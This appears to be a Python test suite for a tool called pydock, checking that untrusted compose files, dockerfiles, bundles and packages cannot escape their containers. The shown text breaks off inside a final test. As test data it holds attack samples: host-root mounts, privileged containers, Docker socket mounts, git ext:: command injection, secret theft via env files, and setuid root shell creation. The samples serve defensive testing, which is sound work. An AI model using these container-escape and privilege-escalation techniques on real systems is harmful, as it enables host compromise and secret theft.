"""What a project, a package or an image does to get out: each attack leaves a marker, a file of root's, a secret or a hole where it
works, and the honest use beside it must go on."""
from __future__ import annotations

import base64
import io
import json
import os
import resource
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import tarfile
import unittest
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional, Sequence, Union

from support import (
    ENGINE, IDLE, PYTHON, ROOT, Case, Result, SharedCase, as_user, docker_groups, engine, is_podman, make_wheel, needs, needs_compose, pydock,
    remove,
)

BASE = "python:%s-slim" % PYTHON
TEMPLATE = pydock.render_dockerfile("python:{version}-slim", PYTHON, [], "")
OTHER = 54321  # a user of this machine, whom nobody knows
SECRET = "s3cret-of-the-host"
TIME = 30  # seconds after which a command counts as hanging

RECORDER = """#!/bin/sh
printf '%s\\n' "cwd=$(pwd)" "git=${{COMPOSE_EXPERIMENTAL_GIT_REMOTE-}}" "oci=${{COMPOSE_EXPERIMENTAL_OCI_REMOTE-}}" >'{folder}'/$$.environ
printf '%s\\0' "$@" >'{folder}'/$$.argv
{line}
exec '{real}' "$@"
"""


def holds_policy() -> bool:
    """Whether the engine's builder keeps images back that a build may not have."""
    client = pydock.Engine(ENGINE)
    client.builder()
    return client.holds_policy


def little_memory() -> None:
    """For preexec_fn: who reads what never ends is ended soon."""
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, resource.RLIM_INFINITY))


class Attack(SharedCase):
    """A home and a clone of somebody's project, with what the tests of a class share."""

    def record(self, line: str = ":") -> None:
        """Notes every call of the engine from here on, and runs a line of sh before it."""
        folder = self.base / "recorder"
        shutil.rmtree(folder, ignore_errors=True)
        (folder / "calls").mkdir(parents=True)
        real = shutil.which(ENGINE[-1])
        assert real
        program = folder / ENGINE[-1]
        program.write_text(RECORDER.format(folder=folder / "calls", real=real, line=line), encoding="utf-8")
        program.chmod(0o755)
        (folder / "calls").chmod(0o777)
        self.environ["PATH"] = str(folder) + os.pathsep + os.environ["PATH"]
        self.addCleanup(self.no_fake)

    def recorded(self, *first: str) -> List[List[str]]:
        """The calls since `record`, all or those that begin so."""
        calls = [path.read_text(encoding="utf-8").split("\0")[:-1] for path in (self.base / "recorder" / "calls").glob("*.argv")]
        return [argv for argv in calls if tuple(argv[:len(first)]) == first]

    def project(self, name: str, files: Optional[Dict[str, Union[str, bytes]]] = None, dockerfile: str = TEMPLATE, requirements: str = "",
            env: str = "dev") -> Path:
        """A clone with a local environment, none of which pydock wrote. The files are relative to the environment's folder."""
        folder = self.work / name
        inside = folder / ".pydock" / "envs" / env
        inside.mkdir(parents=True)
        for file, data in {"dockerfile": dockerfile, "requirements.txt": requirements, **(files or {})}.items():
            path = inside / file
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data.encode() if isinstance(data, str) else data)
        return folder

    def marker(self) -> Path:
        return self.base / ("pwned by " + self.id().rpartition(".")[2])

    def safe(self, *results: Result) -> None:
        """No marker is there, and no secret was said."""
        self.assertFalse(self.marker().exists(), results)
        for result in results:
            self.assertNotIn(SECRET, result.out + result.err)

    def guarded(self, *argv: str, **options: Any) -> Result:
        """Runs pydock, which must neither hang, nor take all memory, nor end without one line that says what is wrong."""
        process = self.start(*argv, preexec_fn=little_memory, start_new_session=True, **options)
        try:
            out, err = process.communicate(timeout=TIME)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.communicate()
            self.fail("pydock %s hangs" % shlex.join(argv))
        result = Result(list(argv), process.returncode, out, err)
        self.assertNotIn("Traceback", result.err, result)
        self.assertIn(result.status, (0, 1, 2), result)
        self.assertNotIn("bug in pydock", result.err, result)
        self.assertNotIn("MemoryError", result.err, result)
        if result.status == 1:
            self.assertEqual(len([line for line in result.err.splitlines() if line.startswith("pydock: error: ")]), 1, result)
        self.safe(result)
        return result

    def away(self, *paths: Path) -> None:
        for path in paths:
            self.addCleanup(shutil.rmtree, path, ignore_errors=True)


# ------------------------------------------------------------------------------------------------------------
# 1. Compose files of others


def services(own: Optional[Dict[str, Any]] = None, dep: Optional[Dict[str, Any]] = None, **more: Any) -> str:
    """A compose file (JSON is YAML, too) with the environment's own service, and one that it depends on."""
    mine: Dict[str, Any] = {"build": {"context": ".", "dockerfile": "dockerfile"}, "init": True, **(own or {})}
    if dep is not None:
        mine["depends_on"] = ["dep"]
    return json.dumps({"services": {"app": mine, **({"dep": {**IDLE, **dep}} if dep is not None else {})}, **more}, indent=1)


@needs_compose
class ComposeOfOthers(Attack):
    def setUp(self) -> None:
        super().setUp()
        self.addCleanup(remove, self)
        self.environ["SECRET_TOKEN"] = SECRET
        self.record()

    def touch(self, root: str = "/host") -> List[str]:
        return ["touch", root + str(self.marker())]

    def refused(self, folder: Path, *argv: str, names: str = "docker-compose.yml", **options: Any) -> Result:
        """Not one byte is obeyed: an error that names the file and the command, and no call of compose."""
        result = self.fails(*argv, cwd=folder, timeout=TIME, **options)
        self.assertIn(names, result.err, result)
        self.assertRegex(result.err, r"hint: .*pydock (--local )?trust ", result)
        self.assertEqual(self.recorded("compose"), [], result)
        self.safe(result)
        return result

    def trusted(self, folder: Path, name: str = "dev", *options: str) -> None:
        self.ok(*options, "trust", "-y", name, cwd=folder)

    def mount(self, name: str, **files: Union[str, bytes]) -> Path:
        """A clone whose compose file leaves a marker by a mount of the host."""
        return self.project(name, {"docker-compose.yml": services(dep={"volumes": ["/:/host"], "command": self.touch()}), **files})

    def test_a_git_remote_and_a_folder_like_a_bare_repository(self) -> None:
        config = '[core]\n\trepositoryformatversion = 0\n\tbare = true\n[protocol "ext"]\n\tallow = always\n[url "ext::touch %s #"]\n\tinsteadOf = https://x.example/\n'
        config %= str(self.marker()).replace(" ", "% ")
        bare = {"HEAD": "ref: refs/heads/main\n", "config": config, "objects/info/x": "", "refs/heads/x": ""}
        text = services(include=["https://x.example/x.git"])
        folder = self.project("git", {**bare, ".env": "COMPOSE_EXPERIMENTAL_GIT_REMOTE=1\nCOMPOSE_EXPERIMENTAL_OCI_REMOTE=1\n", "docker-compose.yml": text})
        for name, data in bare.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(data, encoding="utf-8")
        shutil.copy(folder / ".pydock" / "envs" / "dev" / ".env", folder)
        self.refused(folder, "-n", "run", "dev", "pytest")
        self.refused(folder, "run", "dev", "true")
        self.trusted(folder)  # and also then, compose fetches nothing
        for argv in (["-n", "run", "dev", "pytest"], ["run", "dev", "true"]):
            self.safe(self.run_pydock(*argv, cwd=folder, timeout=TIME))
        for path in (self.base / "recorder" / "calls").glob("*.argv"):
            if path.read_text(encoding="utf-8").startswith("compose\0") and "version" not in path.read_text(encoding="utf-8").split("\0"):
                self.assertEqual(path.with_suffix(".environ").read_text(encoding="utf-8"), "cwd=/\ngit=0\noci=0\n")

    def test_files_that_are_swapped_after_the_check_are_not_read(self) -> None:
        """What compose reads is a copy, in which every path means what it means in the folder itself."""
        text = services({"env_file": ["in.env", "../../../.env"], "environment": {"DOT": "${DOT} a$$b"}, "volumes": ["../../..:/project"]}, include=["below/dep.yml"])
        folder = self.project("swapped", {"docker-compose.yml": text, "below/dep.yml": "{}", ".env": "DOT=dot\n", "in.env": "IN=in\n"})
        inside = folder / ".pydock/envs/dev"
        (folder / ".env").write_text("OUT=out\n", encoding="utf-8")
        self.trusted(folder)
        evil = services(dep={"volumes": ["/:/host"], "command": self.touch()})
        swaps = ["printf %%s %s >%s" % (shlex.quote(evil), shlex.quote(str(inside / name))) for name in ("below/dep.yml", "docker-compose.yml")]
        swaps += ["echo %s=evil >>%s" % (name.upper(), shlex.quote(str(inside / file))) for name, file in (("dot", ".env"), ("in", "in.env"))]
        self.record('if [ "$1" = compose ]; then %s; fi' % "; ".join(swaps))
        result = self.ok("run", "dev", "sh", "-c", 'echo "$DOT $IN $OUT"; ls -d /project/.pydock', cwd=folder)
        self.assertEqual(result, "dot a$b in out\n/project/.pydock\n")
        self.assertIn("host", (inside / "docker-compose.yml").read_text(encoding="utf-8"))
        self.fails("run", "--fresh", "dev", "true", cwd=folder, says="was changed since you allowed it")
        self.assertEqual(list((self.home / ".cache/pydock").glob("compose-*")), [])
        self.safe()

    def test_what_opens_the_host(self) -> None:
        secret = self.base / "secret.env"
        secret.write_text("STOLEN=%s\n" % SECRET, encoding="utf-8")
        (self.base / "context").mkdir(exist_ok=True)
        (self.base / "context" / "dockerfile").write_text("FROM %s\nCOPY . /stolen\n" % BASE, encoding="utf-8")
        cases: Dict[str, str] = {
            "mount": services(dep={"volumes": ["/:/host"], "command": self.touch()}),
            "mount in its own service": services({"volumes": ["/:/host"]}),
            "privileged": services(dep={"privileged": True, "pid": "host", "command": ["sh", "-c", "touch /proc/1/root'%s'" % self.marker()]}),
            "capabilities and devices": services({"cap_add": ["ALL"], "devices": ["/dev/null:/dev/x"], "security_opt": ["apparmor=unconfined"]}),
            "a variable of the host": services({"environment": {"STOLEN": "${SECRET_TOKEN}"}}),
            "a file of variables": services({"env_file": [str(secret)]}),
            "a build context": services(dep={"build": {"context": str(self.base / "context")}, "image": self.prefix + "-stolen:latest",
                    "pull_policy": "build"}),
            "a volume that is a mount": services({"volumes": ["v:/v"]}, volumes={"v": {"driver": "local", "driver_opts": {"type": "none", "o": "bind",
                    "device": "/"}}}),
            "a secret that is a file": services({"secrets": ["s"]}, secrets={"s": {"file": str(secret)}}),
            "the engine's socket": services(dep={"volumes": ["/var/run/docker.sock:/var/run/docker.sock"]}),
            "nothing at all": services(),
        }
        for number, (title, text) in enumerate(cases.items()):
            with self.subTest(title):
                folder = self.project("opens%d" % number, {"docker-compose.yml": text})
                self.refused(folder, "run", "dev", "env")
                self.assertEqual(self.containers(), [])

    def test_every_way_to_start_it(self) -> None:
        folder = self.mount("ways")
        for argv in (["run", "dev", "true"], ["-n", "run", "dev", "true"], ["--verbose", "run", "--fresh", "dev", "true"], ["run", "--root", "dev", "true"],
                ["shell", "dev"], ["-n", "shell", "dev"], ["start", "dev"],
                     ["-n", "start", "dev"], ["activate", "--shell", "bash", "dev"], ["activate", "--persistent", "--shell", "fish", "dev"]):
            with self.subTest(argv):
                self.refused(folder, *argv)
        for argv in (["reset", "dev"], ["stop", "dev"], ["trust", "dev"], ["list"], ["config"], ["link", "dev", "python"],
                ["completion", "--words", "run", ""], ["build", "dev"], ["history", "dev"], ["lock", "--check", "dev"]):
            with self.subTest(argv):  # what need not fail does not ask compose either
                self.safe(self.run_pydock(*argv, cwd=folder, timeout=TIME))
                self.assertEqual([call for call in self.recorded("compose") if "version" not in call], [])
        self.assertEqual(self.containers(), [])
        inside = self.home / ".local" / "share" / "pydock"
        for program in inside.glob("*/bin/python"):
            subprocess.run([str(program), "-c", "1"], cwd=folder, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL, timeout=TIME)
        self.assertFalse(self.marker().exists())

    def test_an_include_that_hides(self) -> None:
        evil = services(dep={"volumes": ["/:/host"], "command": self.touch()})
        plain = services()
        texts: Dict[str, Union[str, bytes]] = {
            "escaped": '{"\\u0069nclude": ["more.yml"],' + plain[1:], "tagged": "!!str include: [more.yml]\nservices: {app: {build: .}}\n",
            "anchored": "x-a: &a include\n*a : [more.yml]\nservices: {app: {build: .}}\n",
                    "merged": "x-a: &a {include: [more.yml]}\n<<: *a\nservices: {app: {build: .}}\n",
            "extended": "services: {app: {build: ., extends: {file: more.yml, service: dep}}}\n",
                    "utf16": ("include: [more.yml]\nservices: {app: {build: .}}\n").encode("utf-16"),
            "two documents": "services: {app: {build: .}}\n---\ninclude: [more.yml]\n", "empty": ""}
        for number, (title, text) in enumerate(texts.items()):
            with self.subTest(title):
                folder = self.project("hides%d" % number, {"docker-compose.yml": text, "more.yml": evil})
                self.refused(folder, "run", "dev", "true")

    def test_a_change_after_trust(self) -> None:
        folder = self.project("change", {"docker-compose.yml": services({"environment": {"HONEST": "yes"}})})
        inside = folder / ".pydock" / "envs" / "dev"
        self.trusted(folder)
        self.assertIn("HONEST=yes", self.ok("run", "dev", "env", cwd=folder).splitlines())
        (inside / "requirements.txt").write_text("# not one of the bytes that compose obeys\n", encoding="utf-8")
        self.ok("run", "dev", "true", cwd=folder)
        good = (inside / "docker-compose.yml").read_text(encoding="utf-8")
        evil = services(dep={"volumes": ["/:/host"], "command": self.touch()})
        changes: Dict[str, Callable[[], object]] = {
            "the file": lambda: (inside / "docker-compose.yml").write_text(evil, encoding="utf-8"),
            "one blank": lambda: (inside / "docker-compose.yml").write_text(good + " ", encoding="utf-8"),
            ".env": lambda: (inside / ".env").write_text("COMPOSE_FILE=../../../evil.yml\n", encoding="utf-8"),
            "another file": lambda: (inside / "docker-compose.override.yml").write_text(evil, encoding="utf-8"),
            "a file in a folder": lambda: in_folder(inside / "conf", evil),
            "the same time and size": lambda: same_look(inside / "docker-compose.yml", good.replace("yes", "yea")),
        }
        for title, change in changes.items():
            with self.subTest(title):
                self.record()
                change()
                self.refused(folder, "run", "dev", "true", names="")
                self.refused(folder, "start", "dev", names="")
                for path in inside.iterdir():
                    if path.name not in ("dockerfile", "requirements.txt"):
                        shutil.rmtree(path) if path.is_dir() else path.unlink()
                (inside / "docker-compose.yml").write_text(good, encoding="utf-8")
                self.ok("run", "dev", "true", cwd=folder)  # what was allowed is allowed
        (inside / "docker-compose.yml").write_text(evil, encoding="utf-8")
        shown = self.run_pydock("trust", "dev", cwd=folder, input="n\n")
        self.assertIn("/:/host", shown.out + shown.err, shown)
        self.record()
        self.refused(folder, "run", "dev", "true")

    def test_a_service_that_is_built_of_a_dockerfile_that_was_changed(self) -> None:
        for number, build in enumerate((".", {"context": "more", "dockerfile": "../dockerfile"})):
            folder = self.project("builds%d" % number, {"docker-compose.yml": services(dep={"build": build}), "more/x": ""})
            self.trusted(folder)
            with (folder / ".pydock" / "envs" / "dev" / "dockerfile").open("a", encoding="utf-8") as file:
                file.write("RUN touch /EVIL\n")
            for argv in (["start", "dev"], ["run", "dev", "true"]):
                self.fails(*argv, cwd=folder, says="builds the service dep there", hint="pydock trust dev")
        self.assertEqual([argv for argv in self.recorded("compose") if "config" not in argv], [])

    def test_while_it_is_started(self) -> None:
        folder = self.project("started", {"docker-compose.yml": services({"environment": {"HONEST": "yes"}})})
        self.trusted(folder)
        self.ok("start", "dev", cwd=folder)
        self.addCleanup(self.run_pydock, "stop", "--force", "dev", cwd=folder)
        self.assertIn("HONEST=yes", self.ok("run", "dev", "env", cwd=folder))
        (folder / ".pydock" / "envs" / "dev" / "docker-compose.yml").write_text(services(dep={"volumes": ["/:/host"], "command": self.touch()}),
                encoding="utf-8")
        self.record()
        for argv in (["run", "dev", "true"], ["reset", "dev"], ["activate", "--shell", "sh", "dev"],
                ["install", "dev", str(make_wheel(self.base / "dist", "plain"))], ["stop", "dev"]):
            with self.subTest(argv):
                self.safe(self.run_pydock(*argv, cwd=folder))
                self.assertEqual([call for call in self.recorded("compose") if "version" not in call], [])

    def test_trust_asks_and_can_be_taken_back(self) -> None:
        folder = self.mount("asks")
        for answer in (None, "", "n\n", "\n", "nonsense\n"):
            with self.subTest(answer):
                self.safe(self.run_pydock("trust", "dev", cwd=folder, input=answer))
                self.refused(folder, "run", "dev", "true")
        shown = self.terminal("trust", "dev", answer="n\n", cwd=folder)
        self.assertIn("/:/host", shown.out)
        self.refused(folder, "run", "dev", "true")
        harmless = self.project("taken back", {"docker-compose.yml": services({"environment": {"HONEST": "yes"}})})
        self.trusted(harmless)
        self.ok("run", "dev", "true", cwd=harmless)
        self.ok("trust", "--remove", "dev", cwd=harmless)
        self.record()
        self.refused(harmless, "run", "dev", "true")

    def test_trust_is_of_one_place(self) -> None:
        folder = self.project("place", {"docker-compose.yml": services()})
        self.trusted(folder)
        self.record()
        moved = self.work / "moved"
        shutil.copytree(folder, moved)
        self.refused(moved, "run", "dev", "true")
        other = self.project("forged", {"docker-compose.yml": services()})
        for note in (self.home / ".local" / "share" / "pydock" / "trust").iterdir():
            for target in (other / ".pydock" / "trust", other / ".local" / "share" / "pydock" / "trust", other / ".pydock" / "envs" / "dev" / "trust"):
                target.mkdir(parents=True, exist_ok=True)
                shutil.copy(note, target)
        self.refused(other, "run", "dev", "true", environ={"PYDOCK_LOCAL": str(other)})

    def test_files_that_are_links(self) -> None:
        secret = self.base / "linked.env"
        secret.write_text("STOLEN=%s\n" % SECRET, encoding="utf-8")
        links: Dict[str, Path] = {"secret.env": secret, "docker-compose.yml": self.work / "evil.yml", ".env": secret, "conf": Path("/etc"), "x/y": secret}
        (self.work / "evil.yml").write_text(services(), encoding="utf-8")
        for number, (name, target) in enumerate(links.items()):
            with self.subTest(name):
                folder = self.project("links%d" % number, {"docker-compose.yml": services({"env_file": ["secret.env"]} if name == "secret.env" else {})})
                path = folder / ".pydock" / "envs" / "dev" / name
                path.parent.mkdir(exist_ok=True)
                if path.exists():
                    path.unlink()
                path.symlink_to(target)
                for argv in (["trust", "-y", "dev"], ["run", "dev", "env"]):
                    result = self.fails(*argv, cwd=folder)
                    self.assertIn("link", result.err, result) if argv[0] == "trust" else None
                    self.safe(result)
                self.assertEqual(self.recorded("compose"), [])

    def test_a_link_that_appears_after_trust(self) -> None:
        folder = self.project("later", {"docker-compose.yml": services({"env_file": ["some.env"]}), "some.env": "HONEST=yes\n"})
        self.trusted(folder)
        self.assertIn("HONEST=yes", self.ok("run", "dev", "env", cwd=folder))
        secret = self.base / "later.env"
        secret.write_text("STOLEN=%s\n" % SECRET, encoding="utf-8")
        path = folder / ".pydock" / "envs" / "dev" / "some.env"
        path.unlink()
        path.symlink_to(secret)
        self.record()
        self.safe(self.fails("run", "dev", "env", cwd=folder))
        self.assertEqual(self.recorded("compose"), [])

    def test_a_bundle_that_brings_one(self) -> None:
        for number, extra in enumerate(("docker-compose.yml", ".env")):
            bundle = self.work / "bundle.tar"
            with tarfile.open(bundle, "w") as archive:
                for name, text in (("dev/dockerfile", TEMPLATE), ("dev/requirements.txt", ""),
                        ("dev/" + extra, services(dep={"volumes": ["/:/host"], "command": self.touch()}))):
                    member = tarfile.TarInfo(name)
                    member.size = len(text.encode())
                    archive.addfile(member, io.BytesIO(text.encode()))
            name = "taken%d" % number
            result = self.run_pydock("--global", "create", name, "--from", str(bundle))
            self.safe(result)
            if extra == ".env":
                self.assertFalse((self.folder(name) / ".env").exists())
                continue
            self.refused(self.work, "--global", "run", name, "true")
            self.refused(self.work, "--global", "-n", "start", name)

    def test_a_bundle_stays_not_allowed_where_the_data_folder_is_another(self) -> None:
        """As under cron, or once somebody has removed what can be made again."""
        bundle = self.work / "other.tar"
        with tarfile.open(bundle, "w") as archive:
            for name, text in (("dev/dockerfile", TEMPLATE), ("dev/requirements.txt", ""), ("dev/docker-compose.yml", services(dep={"volumes": ["/:/host"],
                    "command": self.touch()}))):
                member = tarfile.TarInfo(name)
                member.size = len(text.encode())
                archive.addfile(member, io.BytesIO(text.encode()))
        self.ok("--global", "create", "dev", "--from", str(bundle))
        self.refused(self.work, "--global", "run", "dev", "true", environ={"XDG_DATA_HOME": str(self.base / "other data")})

    def test_a_file_of_the_names_that_pydock_keeps_beside_it(self) -> None:
        """What an allowed file includes of its own folder is watched, whatever its name is, but dockerfile, requirements.txt and wheels."""
        evil = services(dep={"volumes": ["/:/host"], "command": self.touch()})
        for number, name in enumerate(("dockerfile.orig", "requirements.txt.orig", "requirements.txt.orig1", "wheels/more.yml")):
            with self.subTest(name):
                folder = self.project("beside%d" % number, {"docker-compose.yml": services(include=[name]), name: "# nothing\n"})
                self.trusted(folder)
                self.record()
                (folder / ".pydock" / "envs" / "dev" / name).write_text(evil.replace('"dev"', '"other"'), encoding="utf-8")
                self.refused(folder, "run", "dev", "true", names="")

    def test_a_clone_of_one_that_is_not_allowed(self) -> None:
        folder = self.mount("cloned")
        for argv in (["--global", "clone", "dev", "mine"], ["--local", "clone", "dev", "mine"]):
            with self.subTest(argv):
                self.safe(self.run_pydock(*argv, cwd=folder))
                self.safe(self.run_pydock(argv[0], "run", "mine", "true", cwd=folder))
                self.assertEqual(self.recorded("compose"), [])

    def test_what_create_wrote_here_is_allowed(self) -> None:
        folder = self.work / "own"
        folder.mkdir()
        self.ok("--local", "create", "dev", "-e", "HONEST=yes", cwd=folder)
        self.assertIn("HONEST=yes", self.ok("run", "dev", "env", cwd=folder))
        script = self.ok("-n", "run", "dev", "true", cwd=folder)
        self.assertIn("compose", script)
        self.ok("--global", "create", "own", "-e", "HONEST=yes")
        (self.folder("own") / "docker-compose.yml").write_text(services({"environment": {"HONEST": "yea"}}), encoding="utf-8")
        self.assertIn("HONEST=yea", self.ok("--global", "run", "own", "env"))  # the user's own, edited


@needs_compose
class ComposeTricks(Attack):
    def test_other_names_of_a_compose_file_mean_nothing(self) -> None:
        evil = services(dep={"volumes": ["/:/host"], "command": ["touch", "/host" + str(self.marker())]})
        folder = self.project("names", dict.fromkeys(("compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.override.yml"), evil))
        for name in ("docker-compose.yml", "compose.yaml", ".env"):
            (folder / name).write_text(evil if name != ".env" else "COMPOSE_FILE=compose.yaml\nDOCKER_HOST=tcp://127.0.0.1:1\n", encoding="utf-8")
        self.record()
        self.assertEqual(self.ok("run", "dev", "echo", "on", cwd=folder), "on\n")
        self.assertEqual(self.recorded("compose"), [])
        self.safe()


def in_folder(folder: Path, text: str) -> None:
    folder.mkdir()
    (folder / "x.yml").write_text(text, encoding="utf-8")


def same_look(path: Path, text: str) -> None:
    """Changes a file that keeps its size and times."""
    before = path.stat()
    with open(path, "r+", encoding="utf-8") as file:
        file.write(text)
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))


# ------------------------------------------------------------------------------------------------------------
# 2. Nobody's code becomes root

SHADOWED = "sh sleep env kill cat grep find tr sed bash ls rm mkdir chown cp id touch true test head tail mv ln setsid printf readlink tini docker-init".split()


class Shipped(Attack):
    """A package that ships programs of the system's names, as scripts that note who ran them."""

    hits: Path
    me: Dict[str, Any]

    @classmethod
    def prepare(cls, case: Case) -> None:
        assert isinstance(case, Shipped)
        cls.me = {}
        if not is_podman():
            case.give_to(OTHER)
            cls.me = {"preexec_fn": as_user(OTHER, OTHER, docker_groups())}
        cls.hits = case.work / "hits"
        script = "#!/bin/sh\necho %%s $(/usr/bin/id -u) >>%s 2>/dev/null || echo %%s >>/opt/venv/hits\nexit 7\n" % shlex.quote(str(cls.hits))
        make_wheel(case.base / "dist", "evil", files={"evil-1.0.data/scripts/" + name: script % (name, name) for name in SHADOWED},
                scripts=["evil-tool = evil:main"])
        make_wheel(case.base / "dist", "plain", scripts=["plain-tool = plain:main"], files={"plain.py": "def main():\n    print('plain')\n"})
        case.ok("create", "r", **cls.me)
        case.ok("install", "r", str(case.base / "dist" / "evil-1.0-py3-none-any.whl"), **cls.me)

    def setUp(self) -> None:
        super().setUp()
        self.record()

    def unhurt(self) -> None:
        self.assertFalse(self.hits.exists(), self.hits.exists() and self.hits.read_text(encoding="utf-8"))
        execs = self.recorded("exec")
        for argv in execs:
            options = argv[1:argv.index(next(word for word in argv if self.prefix in word))]
            self.assertNotIn("--privileged", options)
            user = options[options.index("-u") + 1] if "-u" in options else ""
            self.assertTrue(user, argv)
            if not is_podman():  # there, the tests are root themselves
                self.assertEqual(user.split(":")[0], str(OTHER), argv)

    def test_run_start_stop_reset_install(self) -> None:
        wheel = str(self.base / "dist" / "plain-1.0-py3-none-any.whl")
        self.assertEqual(self.ok("run", "r", "/bin/echo", "on", **self.me), "on\n")
        self.ok("start", "r", **self.me)
        self.assertEqual(self.ok("run", "r", "/bin/echo", "on", **self.me), "on\n")
        self.assertEqual(self.run_pydock("run", "r", "/bin/sh", "-c", "exit 5", **self.me).status, 5)
        self.ok("reset", "r", **self.me)
        self.ok("install", "r", wheel, **self.me)
        self.assertEqual(self.ok("run", "r", "plain-tool", **self.me), "plain\n")
        self.ok("uninstall", "r", "plain", **self.me)
        self.ok("stop", "r", **self.me)
        self.assertEqual(self.containers(), [])
        self.ok("digest", "r", **self.me)
        self.ok("build", "r", **self.me)
        self.unhurt()
        self.assertNotIn("hits", self.ok("run", "r", "/bin/ls", "/opt/venv", **self.me).split())

    def test_a_signal_reaches_a_started_program(self) -> None:
        self.ok("start", "r", **self.me)
        self.addCleanup(self.run_pydock, "stop", "--force", "r", **self.me)
        ready = self.work / "ready"
        process = self.start("run", "r", "/bin/sh", "-c", "trap 'exit 9' TERM; : >ready; while :; do /bin/sleep 0.1; done", **self.me)
        self.wait_for(ready.exists)
        busy = self.fails("stop", "r", **self.me)
        self.assertIn("/bin/sh", busy.err)
        process.terminate()
        self.assertEqual(process.wait(30), 9)
        self.ok("stop", "r", **self.me)
        ready.unlink()
        self.unhurt()

    def test_activation_and_links(self) -> None:
        shell = "eval \"$(%s activate --shell sh r)\" || exit 1; evil-tool; plain=$?; command -v sleep grep id; deactivate" % shlex.join(self.program)
        done = subprocess.run(["/bin/sh", "-c", shell], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT, text=True, timeout=120, **self.me)
        self.assertEqual(done.returncode, 0, done.stdout)
        folder = next((self.home / ".local" / "share" / "pydock").glob("*-r/bin"))
        self.assertEqual({"sh", "env", "bash"} & set(os.listdir(folder)), set())
        self.ok("stop", "--force", "r", **self.me)
        self.unhurt()

    def test_programs_that_a_started_one_wrote(self) -> None:
        """The attack that was done: `pydock stop` ran the container's `sh` as root, which left a setuid shell in the project."""
        self.ok("create", "w", **self.me)
        self.ok("start", "w", **self.me)
        shell = shlex.quote(str(self.work / "rootsh"))
        script = "#!/bin/sh\n/bin/cp /bin/sh %s; /bin/chmod 4755 %s; /usr/bin/touch %s\nexec /bin/sh \"$@\"\n" % (shell, shell, shlex.quote(str(self.hits)))
        code = "import os, sys\nfor name in sys.argv[2:]:\n    path = '/opt/venv/bin/' + name\n    if os.path.lexists(path): os.unlink(path)\n"
        code += "    open(path, 'w').write(sys.argv[1]); os.chmod(path, 0o755)"
        self.ok("run", "w", "python3", "-Ic", code, script, *SHADOWED, "python3", "python", **self.me)
        process = self.start("run", "w", "/bin/sh", "-c", ": >going; exec /bin/sleep 100", **self.me)
        self.wait_for((self.work / "going").exists)
        process.terminate()
        process.wait(30)
        self.ok("activate", "--shell", "sh", "w", **self.me)
        self.ok("reset", "w", **self.me)
        self.ok("run", "w", "python3", "-Ic", code, script, *SHADOWED, "python3", "python", **self.me)
        self.ok("stop", "w", **self.me)
        (self.work / "going").unlink()
        roots = [path for path in self.work.rglob("*") if path.lstat().st_mode & stat.S_ISUID and path.lstat().st_uid == 0]
        self.assertEqual(roots, [])
        self.unhurt()


PLAIN = "FROM %s\nRUN python3 -m venv /opt/venv && mkdir -p /opt/pydock\nENV PATH=/opt/venv/bin:$PATH\nCOPY dockerfile requirements.txt /opt/pydock/\n" % BASE


class RootsFiles(Attack):
    """Files of root's that outlive the container, in the project's folder."""

    me: Dict[str, Any]

    @classmethod
    def prepare(cls, case: Case) -> None:
        cls.me = {}
        if is_podman():
            raise unittest.SkipTest("the tests are root themselves on podman")
        case.give_to(OTHER)
        cls.me = {"preexec_fn": as_user(OTHER, OTHER, docker_groups())}

    def test_a_dockerfile_whose_user_is_root(self) -> None:
        """A clone's dockerfile says who the user inside is: that must not make a setuid shell of root's on this host."""
        plain = PLAIN
        dockerfiles = {"none": plain, "root": plain + "USER 0:0\n", "by name": plain + "USER root\n",
                "the template without its arguments": TEMPLATE.replace("ARG USER_UID=1000", "ENV USER_UID=0").replace("ARG USER_GID=1000", "ENV USER_GID=0"),
                       "an entry point": TEMPLATE.replace("USER $USER_UID:$USER_GID\n", "USER 0:0\n"), "later": TEMPLATE + "USER 0\n"}
        script = "cp /bin/sh rootsh; chown 0:0 rootsh; chmod 4755 rootsh; mkdir -p d; cp rootsh d; exit 0"
        for number, (title, text) in enumerate(dockerfiles.items()):
            with self.subTest(title):
                folder = self.project("rooted%d" % number, dockerfile=text)
                subprocess.run(["chown", "-R", str(OTHER), str(folder)], check=True)
                for argv in (["run", "dev", "/bin/sh", "-c", script], ["start", "dev"], ["run", "dev", "/bin/sh", "-c", script], ["stop", "--force", "dev"]):
                    self.run_pydock(*argv, cwd=folder, **self.me)
                roots = [path for path in folder.rglob("*") if path.lstat().st_uid == 0]
                self.assertEqual(roots, [])

    def test_a_bundle_whose_user_is_root(self) -> None:
        bundle = self.work / "root.tar"
        with tarfile.open(bundle, "w") as archive:
            for name, text in (("e/dockerfile", PLAIN), ("e/requirements.txt", "")):
                member = tarfile.TarInfo(name)
                member.size = len(text.encode())
                archive.addfile(member, io.BytesIO(text.encode()))
        self.run_pydock("create", "handed", "--from", str(bundle), **self.me)
        self.run_pydock("run", "handed", "/bin/sh", "-c", "cp /bin/sh handedsh; chmod 4755 handedsh; exit 0", **self.me)
        self.assertEqual([path for path in self.work.glob("handedsh") if path.lstat().st_uid == 0], [])


class NoNewPrivileges(Attack):
    me: Dict[str, Any]

    @classmethod
    def prepare(cls, case: Case) -> None:
        cls.me = {}
        if not is_podman():
            case.give_to(OTHER)
            cls.me = {"preexec_fn": as_user(OTHER, OTHER, docker_groups())}
        case.ok("create", "e", **cls.me)
        text = (case.folder("e") / "dockerfile").read_text(encoding="utf-8")
        (case.folder("e") / "dockerfile").write_text(text.replace("\nUSER $USER_UID",
                "\nRUN cp /bin/sh /opt/rootsh && chmod 4755 /opt/rootsh\nUSER $USER_UID"), encoding="utf-8")
        case.ok("build", "e", **cls.me)

    LOOK = ("grep", "NoNewPrivs", "/proc/self/status")

    def flag(self, out: str) -> str:
        return out.split("NoNewPrivs:")[-1].split()[0]

    def test_it_is_set_wherever_a_program_runs_and_off_where_that_is_said(self) -> None:
        me = self.me
